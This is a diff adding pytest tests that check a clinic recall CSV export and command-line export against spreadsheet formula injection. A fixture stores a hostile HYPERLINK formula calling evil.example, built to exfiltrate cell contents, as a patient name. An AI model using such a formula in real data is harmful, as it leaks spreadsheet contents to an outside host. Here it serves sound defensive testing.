@@ -97,6 +97,33 @@ def test_recall_exports_csv_with_contacts(client_as, exposures):
     assert {r["zone"] for r in rows} == {"cheek_left", "forehead"}
 
 
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile_exposure(clinic, staff, today):
+    """A patient whose family name is a spreadsheet formula got lot H-1."""
+    manager = staff["manager"]
+    lot = receive(clinic, manager, today, "ha-nonxl-vitamins", "H-1")
+    hostile = create_patient(clinic, manager, given_name="@SUM(A1)", family_name=HOSTILE_NAME)
+    stock.do_administer(staff["practitioner"], clinic, lot, hostile, Decimal("1.0"), "forehead")
+    return hostile
+
+
+def test_recall_csv_never_hands_a_formula_to_the_spreadsheet(client_as, hostile_exposure):
+    response = search(client_as("manager"), identifier="H-1", format="csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [r["patient_name"] for r in rows] == ["'@SUM(A1) " + HOSTILE_NAME]
+    assert rows[0]["phone"] == "'+44 7700 900123"  # a leading + would be a formula too
+    assert rows[0]["quantity"] == "1.00"
+
+
+def test_recall_command_csv_never_hands_a_formula_to_the_spreadsheet(hostile_exposure, capsys):
+    call_command("recall", "--lot", "H-1", "--csv")
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [r["patient_name"] for r in rows] == ["'@SUM(A1) " + HOSTILE_NAME]
+
+
 def test_manager_marks_a_patient_contacted_and_it_is_audited(client_as, exposures, staff):
     patient = exposures["patient"]
     response = client_as("manager").post(
